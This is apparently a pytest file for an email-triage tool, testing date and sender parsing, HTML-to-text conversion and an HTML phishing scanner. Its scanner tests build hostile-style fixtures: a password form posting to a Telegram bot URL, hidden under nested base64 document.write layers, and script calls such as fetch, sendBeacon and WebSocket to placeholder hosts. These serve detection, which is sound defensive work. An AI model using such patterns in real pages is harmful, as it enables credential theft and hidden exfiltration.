"""Quoted dates and people, lines of pages, layers of pages, entities."""

import base64
from datetime import datetime, timezone

import pytest
from pyspark.sql import functions as F

from mailtriage.functions import htmlscan
from mailtriage.functions import text as T
from mailtriage.operators import thread


@pytest.mark.parametrize(
    ("said", "at", "real", "right"),
    [
        ("Mon, 15 Jan 2024 10:05:00 +0000", (2024, 1, 15, 10, 5), True, True), ("Tuesday, January 15, 2024 at 3:07 PM", (2024, 1, 15, 15, 7), True, False), ("on February 30, 2024", None, False, None),
        ("12:30 am, 1 december 1999", (1999, 12, 1, 0, 30), True, None), ("15/01/2024", None, None, None), ("Jan 2024", None, None, None), ("March 45, 2024", None, None, None), ("", None, None, None), ("Sep. 3rd 2021", (2021, 9, 3), True, None),
    ],
)
def test_claimed_date(said, at, real, right):
    got = thread.claimed_date(said)
    assert got == {"at": datetime(*at, tzinfo=timezone.utc) if at else None, "real_date": real, "right_weekday": right}


def test_person():
    assert thread.person('"Ann Example" <Ann@Example.com>') == ("Ann Example", "ann@example.com")
    assert thread.person("Bob O'Neil [mailto:bob@x.test] (office)") == ("Bob ONeil", "bob@x.test") or thread.person("Bob O'Neil [mailto:bob@x.test] (office)")[1] == "bob@x.test"
    assert thread.person("  ") == (None, None) and thread.person("carl@y.test") == (None, "carl@y.test")


def test_lines_and_entities(spark):
    page = "<p>One<br>two</P><style>x</style><div>a &amp;lt; b &#233;&#x1F600;&#0; &bogus; &NBSP;.</div><b>c</b><hr>d"
    row = spark.createDataFrame([(page,)], "h string").select(thread.lines_of(F.col("h")).alias("l"), T.named_entities(F.lit("plain")).alias("p")).first()
    assert row.l == "One\ntwo\na &lt; b é😀&#0; &bogus;  .\nc\nd" and row.p == "plain"


def test_long_header_blocks(spark):
    lines = ["From: Ann <a@b.test>", "Sent: Mon, 15 Jan 2024 10:00"] + [""] * 14 + ["To: c@d.test", "Subject: hi", "", "text"]
    found, _ = thread.quoted_messages("\n".join(lines))
    assert len(found) == 1 and found[0]["subject"] == "hi"


@pytest.mark.parametrize("depth", [1, 2, 3, 4, 6])
def test_layers_to_any_depth(depth):
    page = '<form action="https://api.telegram.org/bot1/x"><input type="password"></form>' + " " * 100
    for _ in range(depth):
        page = f'<script>document.write(atob("{base64.b64encode(page.encode()).decode()}"))</script>'
    r = htmlscan.inspect(page)
    assert r["hidden_layers"] == depth and r["password_form"]
    assert r["destinations"] == [{"url": "https://api.telegram.org/bot1/x", "kind": "form target", "service": "Telegram bot", "hidden": True}]


def test_uses():
    page = """<meta http-equiv="refresh" content="0; url=https://m.test/"><link rel=x href='https://l.test/'><a href=https://a.test/>x</a><iframe src="//i.test/x"></iframe>
      <script src="https://s.test/x.js">fetch('https://f.test'); $.post("https://j.test", d); jQuery.get("https://no.test"); x.open("POST", "https://x.test"); window.open("https://w.test");
      $.ajax({url: "https://u.test"}); navigator.sendBeacon(`https://b.test`); new WebSocket("wss://ws.test"); window.location.href = "https://r.test"; location.replace("https://rr.test"); s.replace("https://plain.test", "")</script>"""
    got = {d["url"]: d["kind"] for d in htmlscan.inspect(page)["destinations"]}
    assert got == {
        "https://m.test/": "meta refresh", "https://l.test/": "URL in script", "https://a.test/": "link", "https://i.test/x": "embedded frame", "https://s.test/x.js": "external script", "https://f.test": "fetch", "https://j.test": "jQuery request",
        "https://no.test": "URL in script", "https://x.test": "XMLHttpRequest", "https://w.test": "URL in script", "https://u.test": "request URL", "https://b.test": "beacon", "wss://ws.test": "WebSocket", "https://r.test": "redirect", "https://rr.test": "redirect", "https://plain.test": "URL in script",
    }
